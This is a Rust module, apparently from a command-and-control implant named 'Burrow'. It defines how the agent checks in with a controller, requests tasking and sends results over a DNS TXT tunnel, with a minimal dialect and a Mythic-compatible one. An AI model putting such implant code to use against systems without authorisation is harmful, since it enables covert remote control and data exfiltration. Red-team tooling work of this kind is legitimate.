//! Wire dialect adapters over the shared lookup and chunking base.

use std::net::IpAddr;

use async_trait::async_trait;

use crate::{
    messages::HostProfile,
    settings::{AgentIdentity, DialectKind},
    transport::{dns::DnsTxtExchange, LookupClient},
    BurrowError, Result,
};

pub mod minimal;
pub mod mythic;

/// One of the two query-name grammars spoken to the controller.
///
/// A session picks its dialect at startup and keeps it; the lookup retry,
/// chunk pacing, and acknowledgment rules underneath are shared.
#[async_trait]
pub trait Dialect: Send {
    /// Cheap reachability check; never required to succeed.
    async fn probe(&self) -> Result<bool>;

    /// Announces the agent to the controller.
    async fn check_in(&mut self, profile: &HostProfile) -> Result<()>;

    /// Asks for work. `Ok(None)` means the controller had nothing for us,
    /// including every answer that fails to parse as tasking.
    async fn request_tasking(&mut self) -> Result<Option<String>>;

    /// Reports a result through the chunked, acknowledged path.
    async fn send_result(&mut self, result: &str) -> Result<()>;
}

/// Builds the configured dialect over a live resolver exchange.
pub fn from_identity(identity: &AgentIdentity) -> Result<Box<dyn Dialect>> {
    let ip: IpAddr = identity
        .c2_address
        .parse()
        .map_err(|_| BurrowError::Address(identity.c2_address.clone()))?;

    let client = LookupClient::new(Box::new(DnsTxtExchange::new(ip)))
        .with_attempts(identity.max_retries);

    Ok(match identity.dialect {
        DialectKind::Minimal => Box::new(minimal::MinimalDialect::new(
            identity.agent_id.clone(),
            identity.c2_address.clone(),
            client,
        )),
        DialectKind::Mythic => Box::new(mythic::MythicDialect::new(
            identity.c2_address.clone(),
            client,
        )),
    })
}
